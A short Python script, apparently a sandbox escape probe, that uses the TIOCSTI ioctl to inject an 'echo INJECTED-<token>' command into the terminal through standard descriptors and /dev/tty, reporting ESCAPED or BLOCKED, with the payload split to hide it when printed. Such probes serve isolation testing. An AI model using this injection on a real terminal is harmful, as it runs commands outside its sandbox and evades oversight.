# tiocsti: push characters into the terminal's input queue with TIOCSTI
# through every descriptor that might be a terminal, and through /dev/tty.
# The payload is assembled here so that printing it never shows it whole.
import fcntl, os, sys, termios
token = sys.argv[1]
payload = ("echo IN" + "JECTED-" + token + "\n").encode()
fds = [0, 1, 2]
try:
    fds.append(os.open("/dev/tty", os.O_RDWR))
    print("OPENED: /dev/tty")
except OSError as e:
    print("BLOCKED: open /dev/tty: %s" % e.__class__.__name__)
for fd in fds:
    try:
        for ch in payload:
            fcntl.ioctl(fd, termios.TIOCSTI, bytes([ch]))
        print("ESCAPED: TIOCSTI on fd %d" % fd)
    except OSError as e:
        print("BLOCKED: TIOCSTI on fd %d: %s" % (fd, e.__class__.__name__))
print("DONE")
